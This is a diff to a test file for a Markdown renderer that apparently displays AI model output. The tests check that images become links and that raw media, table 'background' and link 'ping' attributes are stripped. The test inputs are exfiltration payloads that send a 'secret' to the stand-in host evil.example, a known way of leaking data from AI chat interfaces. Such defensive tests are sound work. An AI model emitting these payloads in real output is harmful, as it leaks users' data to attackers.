@@ -35,6 +35,8 @@ describe('Markdown', () => {
   it('never loads a model\'s image by itself: Markdown images become links, raw media is dropped', () => {
     const container = mount('![chart](https://evil.example/leak?q=secret) <img src="https://evil.example/x.png"> <video src="https://evil.example/v.mp4"></video>');
     expect(container.querySelector('img, video, source, picture')).toBeNull();
+    const table = mount('<table background="https://evil.example/leak"><tr><td>x</td></tr></table> <a href="https://a.example" ping="https://evil.example/p">a</a>');
+    expect(table.querySelector('[background], [ping]')).toBeNull();
     const link = container.querySelector('a.image-link')!;
     expect(link).toHaveAttribute('href', 'https://evil.example/leak?q=secret');
     expect(link).toHaveTextContent('chart');
